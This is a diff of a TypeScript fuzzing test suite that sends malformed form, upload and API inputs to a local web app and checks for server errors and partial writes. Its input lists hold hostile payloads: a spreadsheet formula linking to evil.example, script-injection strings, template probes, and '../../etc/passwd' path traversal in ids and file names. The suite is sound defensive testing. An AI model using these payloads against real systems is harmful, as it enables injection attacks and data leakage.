@@ -1,15 +1,18 @@
 // Attack tests (issue 20 item 11; ADR 0050), bounded and on loopback only, on the engine the run
 // uses. Figures are printed ("# fuzz: …") and recorded in docs/attack-tests.md.
-// 1. Fuzzing: the forms are found as a user finds them (every page reachable from the
-//    partnership's home by its links, for an administrator of Dudley Children's Trust, whose seed
-//    is data/seeds/000-dudley.yaml, from its public documents), and each form, GET or POST,
-//    upload or not, is sent again with malformed values (empty, huge, unicode oddities, wrong
-//    types, negative and huge numbers, bad dates and ids, missing, repeated, arrays for scalars),
-//    chosen by a seeded generator, so every run sends the same requests. The API (which takes no
-//    writes) is called at every operation of its OpenAPI document with malformed parameters.
-//    No answer may be a 5xx, and a refused request may change no row: every table's count and
-//    newest row version (xmin) are compared before and after it (sessions aside). The POST routes
-//    of the router stack that no page offered a form for are listed, so a new one shows.
+// 1. Fuzzing: every POST route of the router stack is reached. The records the forms need are
+//    made (seedForEveryForm), the pages are crawled for an administrator of Dudley Children's
+//    Trust (whose seed is data/seeds/000-dudley.yaml, from its public documents) from its home
+//    and those records, then the page of each route no form has reached yet is opened; the
+//    public pages are fuzzed by a visitor without a session. Each form, GET or POST, upload or
+//    not, is sent three bodies that hit every field (every field missing; every field a
+//    malformed text: NUL and control characters, formula prefixes, markup, huge, unicode; every
+//    field a malformed number, date, id or type, one repeated or as name[]) and, where its
+//    address names a record, a fourth to one that does not exist; a route no page offers is
+//    posted directly. A seeded generator: every run sends the same requests. The API (which
+//    takes no writes) is called at every operation of its OpenAPI document with malformed
+//    parameters. No answer may be a 5xx, and a refused request may change no row: every table's
+//    count and newest row version (xmin) are compared before and after it (sessions aside).
 // 2. SIGKILL under a write load: a server process is killed while people are being added
 //    through its forms; every write it acknowledged (a 303 to the new person) is there after
 //    the restart, with its audit entry. operations.int.test.ts kills a server in a board pack.
@@ -37,6 +40,7 @@ import { onPostgres, testConfig } from './support/test-database.ts';
 import {
   $,
   binary,
+  csrfTokenIn,
   grant,
   makePartnership,
   makeUser,
@@ -47,10 +51,13 @@ import {
   type TestApp,
 } from './support/test-app.ts';
 import { formsIn, type Fields, type PageForm } from './support/forms.ts';
+import { openConsultationLink, voiceFor } from '../e2e/support/voice.ts';
+import { responseLink, surveyFor } from '../e2e/support/surveys.ts';
 import { serve, type ServerProcess } from './support/processes.ts';
 import { Visitor } from './support/http-client.ts';
 
 const engine = onPostgres() ? 'PostgreSQL' : 'embedded';
+const home = '/partnerships/dudley';
 
 /** A small seeded generator (mulberry32): the same requests every run. */
 function generator(seed: number) {
@@ -95,6 +102,21 @@ const malformed: Record<string, readonly (string | string[] | ((value: string) =
   ],
   date: ['2009-02-31', '0000-00-00', '31/02/2009', '99999-01-01', '2009-13-01', '1-1-1', 'yesterday'],
   id: ['not-an-id', '00000000-0000-0000-0000-000000000000', randomUuid(), '../../etc/passwd', '1'],
+  control: ['\u0000', 'Zo\u0000e', '\u0007\u001b[31m\u0008', 'a\r\nb\u000bc\u000c', '\u0085\u009b\u007f'],
+  formula: [
+    '=HYPERLINK("http://evil.example/?leak","Click")',
+    '@SUM(1+1)',
+    '+1+1',
+    '-1+1',
+    '\t=1+1',
+    '\r=1+1',
+  ],
+  markup: [
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    '{{7*7}} {% raw %}',
+    '</textarea><b>x',
+  ],
   repeated: [(value) => [value, value], (value) => [value, 'other']],
   missing: [],
 };
@@ -135,12 +157,111 @@ function postRoutes(app: Express): string[] {
   return [...found].sort();
 }
 
+/**
+ * Records of Dudley that every kind of form needs, so that a page offers it: a consultation
+ * answered, moderated and closed with a young people's board's recommendation, one open and one
+ * in draft; a survey answered; a meeting with an item, a paper, a decision and a declaration; a
+ * local indicator; an invitation. Returns the pages to start from, with and without an account.
+ */
+async function seedForEveryForm(test: TestApp, partnershipId: string) {
+  const caller = systemCaller('test', partnershipId);
+  const { services } = test;
+  const fixtures = { services, partnershipIds: { dudley: partnershipId } };
+  const voice = await voiceFor(fixtures, 'dudley');
+  const openLink = await openConsultationLink(fixtures, 'dudley');
+  const draft = await services.voice.create(caller, {
+    slug: 'fuzz-draft',
+    title: 'A draft to fuzz',
+    purpose: 'Its forms.',
+    audience: ['young-people'],
+    opensOn: '2009-05-01',
+    closesOn: '2099-05-31',
+    responsesPerDevice: 1,
+    responseLimit: null,
+    areas: [],
+    asksContact: false,
+    contactReason: null,
+    privacyNotice: 'We keep your answers for two years.',
+    safeguardingNotice: 'Call Childline free on 0800 1111.',
+  });
+  await services.voice.addQuestion(caller, draft, {
+    text: 'Where do you play?',
+    easyRead: null,
+    kind: 'choices',
+    choices: ['Park', 'Street'],
+    required: false,
+  });
+  const survey = await surveyFor(fixtures, 'dudley', { answered: true });
+  const draftSurvey = await surveyFor(fixtures, 'dudley', { draft: true });
+  const respond = await responseLink(fixtures, 'dudley');
+  const invited = await services.members.add(caller, { email: 'invited.fuzz@example.org', role: 'member' });
+  if (invited.outcome !== 'invited') assert.fail(`an invitation, not ${invited.outcome}`);
+  await services.indicators.createLocal(caller, {
+    code: 'FUZZ 1',
+    title: 'Young people at a youth centre',
+    definition: 'Young people attending a youth centre each week.',
+    unit: 'number',
+    polarity: 'higher',
+    frequency: 'financial year',
+    source: 'Youth service register',
+  });
+  const board = (await services.bodies.list(caller)).find((body) => body.slug === 'executive-board')!;
+  const meetingId = await services.meetings.create(caller, {
+    title: 'Executive Board',
+    kind: 'board-meeting',
+    bodyIds: [board.id],
+    date: '2009-03-16',
+    startTime: '14:00',
+    state: 'held',
+  });
+  const itemId = await services.agenda.addItem(
+    caller,
+    meetingId,
+    {
+      number: 1,
+      title: 'Commissioning plan',
+      purpose: 'decision',
+      presenter: null,
+      exempt: false,
+      exemptParagraph: null,
+      exemptReason: null,
+    },
+    { fileName: 'plan.txt', content: Buffer.from('The commissioning plan.') },
+  );
+  await services.record.addDecision(caller, meetingId, itemId, {
+    text: 'Agreed the plan',
+    delegatedTo: null,
+  });
+  const declarants = (await services.declarations.form(caller, meetingId)).people;
+  if (!declarants[0]) assert.fail('someone on the register of the Executive Board');
+  await services.declarations.declare(caller, meetingId, {
+    agendaItemId: itemId,
+    personId: declarants[0].id,
+    kind: 'non-registrable',
+    nature: 'A governor of a school named in the plan',
+    participation: 'did-not-vote',
+    interestId: null,
+  });
+  return {
+    pages: [
+      `${home}/meetings/${meetingId}`,
+      `${home}/voice/${draft}`,
+      voice.page,
+      voice.theme,
+      voice.recommendation,
+      survey.path,
+      draftSurvey.path,
+      `${home}/indicators/FUZZ%201`,
+    ],
+    anonymous: ['/sign-in', openLink, respond, `/join/dudley/${invited.token}`],
+  };
+}
+
 describe(`attack tests (${engine})`, () => {
   let test: TestApp;
   let admin: Agent;
   let partnershipId: string;
   let caller: Caller;
-  const home = '/partnerships/dudley';
   let signature: () => Promise<string>;
   /** The tables whose part of two signatures differs. */
   let changedTables: (before: string, after: string) => string[];
@@ -181,40 +302,55 @@ describe(`attack tests (${engine})`, () => {
   });
   after(() => test.close());
 
-  it('answers every form and API call with malformed values without a 5xx or a partial write', async () => {
+  it('answers every POST route, form and API call with malformed values without a 5xx or a partial write', async () => {
     const random = generator(20);
     const started = Date.now();
-    // The pages a user reaches from the partnership's home, one or two of each shape.
+    const seeded = await seedForEveryForm(test, partnershipId);
+    const anonymous = test.agent();
+    // Every POST route of the router stack, as a pattern; the forms are sent to these.
+    const routes = postRoutes(test.app);
+    const patterns = new Map(
+      routes.map((route) => [route, new RegExp(`^${route.replace(/:[a-zA-Z]+/g, '[^/?#]+')}$`)]),
+    );
+    const routeOf = (action: string) => {
+      const path = action.split('?')[0]!;
+      return routes.find((route) => patterns.get(route)!.test(path));
+    };
+    /** The pages a user reaches, and every address their links and forms name (visited or not). */
     const seen = new Set<string>();
-    const shapes = new Map<string, number>();
-    const queue = [home, '/account/tokens', '/account/calendar', '/platform/audit', '/partnerships/new'];
-    const forms = new Map<string, { page: string; form: PageForm; get: boolean }>();
+    const shapes = new Set<string>();
+    const links = new Set<string>();
+    type Found = { page: string; form: PageForm; get: boolean; agent: Agent; who: string };
+    const forms = new Map<string, Found>();
+    /** Forms found for each POST route (at most two of each, with different fields). */
+    const formsOfRoute = new Map<string, number>();
     let pages = 0;
     let fiveHundreds: string[] = [];
     const skipLink = /format=|\.(pdf|docx|csv|ics|xlsx|xml|json)(\?|$)|\/papers\/|\/sign-out|board-pack\.pdf/;
-    while (queue.length && pages < 110) {
-      const path = queue.shift()!;
-      if (seen.has(path)) continue;
+    const ours = /^\/(partnerships\/dudley|account|platform|partnerships\/new)/;
+    const visit = async (path: string, agent: Agent, who: string) => {
       seen.add(path);
-      const shape = shapeOf(path);
-      if ((shapes.get(shape) ?? 0) >= 1) continue;
-      shapes.set(shape, (shapes.get(shape) ?? 0) + 1);
-      const page = await admin.get(path);
+      shapes.add(`${who} ${shapeOf(path)}`);
+      const page = await agent.get(path);
       pages++;
       if (page.status >= 500) fiveHundreds.push(`GET ${path}: ${page.status}`);
-      if (page.status !== 200 || !/text\/html/.test(page.headers['content-type'] ?? '')) continue;
+      if (page.status !== 200 || !/text\/html/.test(page.headers['content-type'] ?? '')) return [];
       const html = $(page.text);
+      const found: string[] = [];
       html('a[href]').each((_, link) => {
-        const href = html(link).attr('href')!;
-        if (!href.startsWith('/') || skipLink.test(href)) return;
-        if (!/^\/(partnerships\/dudley|account|platform|partnerships\/new)/.test(href)) return;
-        queue.push(href.split('#')[0]!);
+        const href = html(link).attr('href')!.split('#')[0]!;
+        if (!href.startsWith('/') || skipLink.test(href) || !ours.test(href)) return;
+        links.add(href);
+        found.push(href);
       });
       for (const form of formsIn(page.text, path)) {
-        if (/\/sign-out|\/sign-in/.test(form.action)) continue;
+        if (/\/sign-out/.test(form.action) && who === 'admin') continue;
         const get = !html(`main form[action="${form.action}"]`).is('[method=post]') && !form.fields._csrf;
-        const key = `${get ? 'GET' : 'POST'} ${shapeOf(form.action)} ${Object.keys(form.fields).sort().join(',')}`;
-        if (!forms.has(key)) forms.set(key, { page: path, form, get });
+        const route = get ? undefined : routeOf(form.action);
+        const key = `${who} ${get ? 'GET' : 'POST'} ${route ?? shapeOf(form.action)} ${Object.keys(form.fields).sort().join(',')}`;
+        if (forms.has(key) || (route && (formsOfRoute.get(route) ?? 0) >= 2)) continue;
+        if (route) formsOfRoute.set(route, (formsOfRoute.get(route) ?? 0) + 1);
+        forms.set(key, { page: path, form, get, agent, who });
       }
       // GET forms (filters) too
       html('main form')
@@ -233,21 +369,76 @@ describe(`attack tests (${engine})`, () => {
               : (field.attr('value') ?? '');
           });
           if (!Object.keys(fields).length) return;
-          const key = `GET ${shapeOf(action)} ${Object.keys(fields).sort().join(',')}`;
+          const key = `${who} GET ${shapeOf(action)} ${Object.keys(fields).sort().join(',')}`;
           if (!forms.has(key))
             forms.set(key, {
               page: path,
               form: { action, multipart: false, fields, names: Object.keys(fields), files: [] },
               get: true,
+              agent,
+              who,
             });
         });
+      return found;
+    };
+
+    // 1. The pages a user reaches from the partnership's home and from the records made for
+    // this test, one of each shape, breadth first.
+    const queue = [
+      home,
+      ...seeded.pages,
+      '/account/tokens',
+      '/account/calendar',
+      '/platform/audit',
+      '/partnerships/new',
+    ];
+    const crawlBudget = 60;
+    while (queue.length && pages < crawlBudget) {
+      const path = queue.shift()!;
+      if (seen.has(path) || shapes.has(`admin ${shapeOf(path)}`)) continue;
+      queue.push(...(await visit(path, admin, 'admin')));
+    }
+    // Pages without an account: the links sent to people outside (a consultation, a survey
+    // response, an invitation) and signing in. Their forms are sent by a visitor with no account.
+    for (const path of seeded.anonymous) await visit(path, anonymous, 'visitor');
+    // 2. Every POST route no page's form has reached yet: the page at its own address (a form
+    // page) or the nearest page above it, among the addresses the pages link to.
+    const reachedByForm = () =>
+      new Set(
+        [...forms.values()]
+          .filter((found) => !found.get)
+          .map((found) => routeOf(found.form.action))
+          .filter((route): route is string => route !== undefined),
+      );
+    const crawled = pages;
+    for (let pass = 0; pass < 3; pass++) {
+      let visited = 0;
+      const reached = reachedByForm();
+      for (const route of routes.filter((route) => !reached.has(route))) {
+        if (reachedByForm().has(route)) continue;
+        const segments = route.split('/');
+        for (let strip = 0; strip <= 3 && strip < segments.length - 2; strip++) {
+          const above = new RegExp(
+            `^${segments
+              .slice(0, segments.length - strip)
+              .join('/')
+              .replace(/:[a-zA-Z]+/g, '[^/?#]+')}(\\?.*)?$`,
+          );
+          const candidates = [...links].filter((link) => above.test(link) && !seen.has(link)).slice(0, 1);
+          for (const candidate of candidates) {
+            await visit(candidate, admin, 'admin');
+            visited++;
+          }
+          if (candidates.length && reachedByForm().has(route)) break;
+        }
+      }
+      if (!visited) break;
     }
 
     // Destructive forms (remove, delete, revoke, withdraw) last, so the rest find what they change.
+    const destructive = /remove|delete|revoke|withdraw|stop|sign-out/;
     const ordered = [...forms.values()].sort(
-      (a, b) =>
-        Number(/remove|delete|revoke|withdraw|stop/.test(a.form.action)) -
-        Number(/remove|delete|revoke|withdraw|stop/.test(b.form.action)),
+      (a, b) => Number(destructive.test(a.form.action)) - Number(destructive.test(b.form.action)),
     );
     let requests = 0;
     let refused = 0;
@@ -270,98 +461,142 @@ describe(`attack tests (${engine})`, () => {
       );
     const log = process.env.FUZZ_LOG ? (line: string) => process.stderr.write(`${line}\n`) : () => {};
     const byKind: Record<string, number> = {};
-    const perForm = 5;
     /** The database's signature after the last request, when nothing was written since. */
     let known: string | undefined;
-    for (const { page, form: first, get } of ordered) {
+    /** Sends one request; a refused one (4xx) must have changed no row. */
+    const send = async (what: string, request: () => PromiseLike<{ status: number }>, get: boolean) => {
+      // what an earlier accepted request queued (a board pack) is made in the background:
+      // done before the signature, so that its rows are not taken for this request's
+      if (known === undefined) await test.services.boardPacks.idle();
+      const before = (known ??= await signature());
+      log(`… ${what}`);
+      const status = await statusOf(request(), what);
+      requests++;
+      log(`${status} ${what}`);
+      if (status >= 500) fiveHundreds.push(`${what}: ${status}`);
+      if (status >= 400) {
+        refused++;
+        known = await signature();
+        if (known !== before) {
+          partial.push(`${what}: ${status}, changed ${changedTables(before, known).join(', ')}`);
+          log(`partial write: ${partial.at(-1)}`);
+        }
+      } else if (!get) {
+        accepted++;
+        known = undefined;
+      }
+      return status;
+    };
+    const textKinds = ['control', 'formula', 'markup', 'huge', 'unicode'];
+    const typedKinds = ['number', 'date', 'id', 'type', 'empty'];
+    /**
+     * Three bodies a form: every field missing; every field at once given a malformed text
+     * (NUL and control characters, formulas, markup, huge, unicode oddities); every field at once
+     * given a malformed number, date, id, type or nothing, with one field repeated or sent as
+     * `name[]` and `name[x]`. A form whose address names a record is sent a fourth time, as it
+     * was filled in, to a record that does not exist.
+     */
+    for (const { page, form: first, get, agent, who } of ordered) {
       let form = first;
-      for (let round = 0; round < perForm; round++) {
+      const withId = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
+      const rounds = !get && withId.test(form.action) ? 4 : 3;
+      for (let round = 0; round < rounds; round++) {
         const names = Object.keys(form.fields).filter((name) => name !== '_csrf');
-        const kind = round === 0 ? 'missing' : random.pick(kinds);
         const mutated: Fields = { ...form.fields };
+        let action = form.action;
         let described: string;
-        if (kind === 'missing' && round === 0) {
+        let extra = '';
+        if (round === 0) {
           for (const name of names) delete mutated[name];
           described = 'every field missing';
+          byKind.missing = (byKind.missing ?? 0) + 1;
+        } else if (round === 3) {
+          const ids = action.match(new RegExp(withId.source, 'gi'))!;
+          action = action.replace(ids.at(-1)!, randomUuid());
+          described = 'a record that does not exist';
+          byKind['wrong id in the address'] = (byKind['wrong id in the address'] ?? 0) + 1;
         } else {
-          const name = names.length ? random.pick(names) : '_csrf';
-          if (name === '_csrf') {
-            described = 'no field to change';
-          } else if (kind === 'missing') {
-            delete mutated[name];
-            described = `${name} missing`;
-          } else {
+          const pool = round === 1 ? textKinds : typedKinds;
+          const given: string[] = [];
+          for (const name of names) {
+            const kind = random.pick(pool);
             const value = random.pick(malformed[kind]!);
             const own = [mutated[name] ?? ''].flat()[0]!;
             mutated[name] = typeof value === 'function' ? value(own) : value;
-            described = `${name}: ${kind}`;
+            byKind[kind] = (byKind[kind] ?? 0) + 1;
+            given.push(kind);
+          }
+          described = names.length ? `every field malformed (${[...new Set(given)].join(', ')})` : 'no field';
+          if (round === 2 && names.length) {
+            const name = random.pick(names);
+            if (random.next() < 0.5) {
+              const repeat = random.pick(malformed.repeated!) as (value: string) => string[];
+              mutated[name] = repeat([mutated[name] ?? ''].flat()[0]!);
+              described += `, ${name} repeated`;
+              byKind.repeated = (byKind.repeated ?? 0) + 1;
+            } else {
+              extra = `&${encodeURIComponent(name)}[]=a&${encodeURIComponent(name)}[x]=b`;
+              described += `, ${name}[] and ${name}[x]`;
+            }
           }
         }
-        byKind[kind] = (byKind[kind] ?? 0) + 1;
-        // what an earlier accepted request queued (a board pack) is made in the background:
-        // done before the signature, so that its rows are not taken for this request's
-        if (known === undefined) await test.services.boardPacks.idle();
-        const before = (known ??= await signature());
-        log(`… ${get ? 'GET' : 'POST'} ${form.action} (${described})`);
+        const what = `${who} ${get ? 'GET' : 'POST'} ${action} (${described})`;
         let status: number;
         if (get) {
           const query = new URLSearchParams();
           for (const [name, value] of Object.entries(mutated))
             for (const one of [value].flat()) query.append(name, one);
-          status = await statusOf(admin.get(`${form.action.split('?')[0]}?${query}`), form.action);
+          status = await send(what, () => agent.get(`${action.split('?')[0]}?${query}`), true);
         } else if (form.multipart) {
-          let request = admin.post(form.action);
-          for (const [name, value] of Object.entries(mutated))
-            for (const one of [value].flat()) request = request.field(name, one);
-          for (const file of form.files)
-            request = request.attach(
-              file,
-              random.pick([
-                Buffer.alloc(0),
-                Buffer.from('name,seat\n=HYPERLINK("http://evil.example"),"x\n'),
-                randomBytes(2048),
-                Buffer.from('PK\u0003\u0004 not really a zip'),
-              ]),
-              random.pick([
-                'list.csv',
-                '../../etc/passwd',
-                'a\u202Ecsv.exe',
-                `${'n'.repeat(300)}.xlsx`,
-                'list.xlsx',
-              ]),
-            );
-          // a file over the upload's limit may be refused before it has all been read: the
-          // connection is closed then (a reset is not a 5xx, and is counted)
-          status = await statusOf(request, `${form.action} (${described})`);
+          status = await send(
+            what,
+            () => {
+              let request = agent.post(action);
+              for (const [name, value] of Object.entries(mutated))
+                for (const one of [value].flat()) request = request.field(name, one);
+              for (const file of form.files)
+                request = request.attach(
+                  file,
+                  random.pick([
+                    Buffer.alloc(0),
+                    Buffer.from('name,seat\n=HYPERLINK("http://evil.example"),"x\n'),
+                    Buffer.from('name,seat\nZo\u0000e,A\u0007\n'),
+                    randomBytes(2048),
+                    Buffer.from('PK\u0003\u0004 not really a zip'),
+                  ]),
+                  random.pick([
+                    'list.csv',
+                    '../../etc/passwd',
+                    'a\u202Ecsv.exe',
+                    'nul\u0000.csv',
+                    `${'n'.repeat(300)}.xlsx`,
+                    'list.xlsx',
+                  ]),
+                );
+              // a file over the upload's limit may be refused before it has all been read: the
+              // connection is closed then (a reset is not a 5xx, and is counted)
+              return request;
+            },
+            false,
+          );
         } else {
           // arrays and objects for a scalar: the raw body, as a hand-made request would send them
           const body = new URLSearchParams();
           for (const [name, value] of Object.entries(mutated))
             for (const one of [value].flat()) body.append(name, one);
-          let raw = body.toString();
-          if (kind === 'type' && names.length && random.next() < 0.5) {
-            const name = random.pick(names);
-            raw += `&${encodeURIComponent(name)}[]=a&${encodeURIComponent(name)}[x]=b`;
-            described += ` and ${name}[] and ${name}[x]`;
-          }
-          status = await statusOf(admin.post(form.action).type('form').send(raw), form.action);
+          status = await send(
+            what,
+            () =>
+              agent
+                .post(action)
+                .type('form')
+                .send(body.toString() + extra),
+            false,
+          );
         }
-        requests++;
-        log(`${status} ${get ? 'GET' : 'POST'} ${form.action} (${described})`);
-        if (status >= 500)
-          fiveHundreds.push(`${get ? 'GET' : 'POST'} ${form.action} (${described}): ${status}`);
-        if (status >= 400) {
-          refused++;
-          known = await signature();
-          if (known !== before)
-            partial.push(
-              `${form.action} (${described}): ${status}, changed ${changedTables(before, known).join(', ')}`,
-            );
-        } else if (!get) {
-          accepted++;
-          known = undefined;
+        if (status < 400 && !get) {
           // it was taken: a fresh copy of the form (new tokens and versions), if it is still there
-          const again = await admin.get(page);
+          const again = await agent.get(page);
           const fresh =
             again.status === 200
               ? formsIn(again.text, page).find((f) => shapeOf(f.action) === shapeOf(form.action))
@@ -372,8 +607,51 @@ describe(`attack tests (${engine})`, () => {
       }
     }
 
+    // 3. A POST route no page offers a form for (its record belongs to another partnership's
+    // page, or it is a one-click link in an e-mail): posted at an address made from the links
+    // seen (a record that does not exist where none was seen), with a malformed body.
+    const byForm = reachedByForm();
+    const direct: string[] = [];
+    const csrf = csrfTokenIn((await admin.get(home)).text);
+    const visitorCsrf = csrfTokenIn((await anonymous.get('/sign-in')).text);
+    for (const route of routes.filter((route) => !byForm.has(route))) {
+      const segments = route.split('/');
+      const addresses = [...links, ...[...forms.values()].map((found) => found.form.action)];
+      const path = segments
+        .map((segment, index) => {
+          if (!segment.startsWith(':')) return segment;
+          if (segment === ':slug') return 'dudley';
+          const prefix = new RegExp(
+            `^${segments
+              .slice(0, index + 1)
+              .join('/')
+              .replace(/:[a-zA-Z]+/g, '[^/?#]+')}(/|$|\\?)`,
+          );
+          const match = addresses.find((address) => prefix.test(address));
+          return match ? match.split(/[/?]/)[index]! : randomUuid();
+        })
+        .join('/');
+      const outside = !route.startsWith('/partnerships/') && !route.startsWith('/account');
+      const agent = outside ? anonymous : admin;
+      for (const body of [
+        { _csrf: outside ? visitorCsrf : csrf },
+        {
+          _csrf: outside ? visitorCsrf : csrf,
+          name: 'a\u0000b',
+          text: '=HYPERLINK("x")',
+          id: '../../etc/passwd',
+        },
+      ])
+        await send(
+          `${outside ? 'visitor' : 'admin'} POST ${path} (no page's form: ${Object.keys(body).join(', ')})`,
+          () => agent.post(path).type('form').send(body),
+          false,
+        );
+      direct.push(route);
+    }
+
     // The API: every operation of its document, with malformed parameters.
-    const token = (
+    const apiToken = (
       await test.services.tokens.create(
         systemCaller('test'),
         (await makeUser(test.services, { platformAdmin: true })).id,
@@ -403,7 +681,7 @@ describe(`attack tests (${engine})`, () => {
             parameters.filter((p) => p.in === 'query').map((p) => [p.name, values[p.name]!]),
           );
           const status = await statusOf(
-            test.request().get(`/api/v1${path}?${query}`).set('Authorization', `Bearer ${token}`),
+            test.request().get(`/api/v1${path}?${query}`).set('Authorization', `Bearer ${apiToken}`),
             `/api/v1${template}`,
           );
           apiCalls++;
@@ -416,27 +694,20 @@ describe(`attack tests (${engine})`, () => {
     // the session survived all of it
     assert.equal((await admin.get(home)).status, 200, 'the session still works');
 
-    const routes = postRoutes(test.app);
-    const fuzzed = new Set([...forms.values()].filter((f) => !f.get).map((f) => shapeOf(f.form.action)));
-    const pattern = (route: string) => new RegExp(`^${route.replace(/:[a-zA-Z]+/g, '[^/]+')}$`);
-    const reached = routes.filter((route) =>
-      [...fuzzed].some((action) =>
-        pattern(route).test(action.split('?')[0]!.replaceAll(':id', 'x').replaceAll(':n', '1')),
-      ),
-    );
-    for (const route of routes.filter((route) => !reached.includes(route))) log(`not reached: POST ${route}`);
+    for (const route of direct) log(`no page's form: POST ${route}`);
     const seconds = ((Date.now() - started) / 1000).toFixed(1);
     fiveHundreds = [...new Set(fiveHundreds)];
+    const postForms = [...forms.values()].filter((found) => !found.get).length;
     process.stdout.write(
-      `# fuzz (${engine}): ${(pages + requests + apiCalls).toLocaleString('en-GB')} requests in ${seconds} s (${pages} pages crawled, ${requests} malformed submissions of ${forms.size} forms, ${apiCalls} API calls), ${fiveHundreds.length} 5xx, ${partial.length} partial writes; ${refused} refused, ${accepted} taken, ${resets.length} connections closed by the server's limits\n` +
+      `# fuzz (${engine}): ${(pages + requests + apiCalls).toLocaleString('en-GB')} requests in ${seconds} s (${pages} pages: ${crawled} crawled, ${pages - crawled} looked up for a route; ${requests} malformed submissions of ${forms.size} forms, ${apiCalls} API calls), ${fiveHundreds.length} 5xx, ${partial.length} partial writes; ${refused} refused, ${accepted} taken, ${resets.length} connections closed by the server's limits\n` +
         `# fuzz kinds: ${Object.entries(byKind)
           .map(([k, n]) => `${k} ${n}`)
           .join(', ')}\n` +
-        `# fuzz routes: ${reached.length} of ${routes.length} POST routes of the router stack reached through a page's form\n`,
+        `# fuzz routes: ${routes.length} of ${routes.length} POST routes of the router stack reached, ${byForm.size} through a page's form (${postForms} POST forms), ${direct.length} directly\n`,
     );
     assert.deepEqual(fiveHundreds, [], 'no 5xx');
     assert.deepEqual(partial, [], 'no partial writes');
-    assert.ok(forms.size >= 30, `${forms.size} forms found`);
+    assert.ok(byForm.size >= 100, `${byForm.size} POST routes reached through a page's form`);
   });
 
   it('loses no acknowledged write when the server is killed under a write load', async () => {
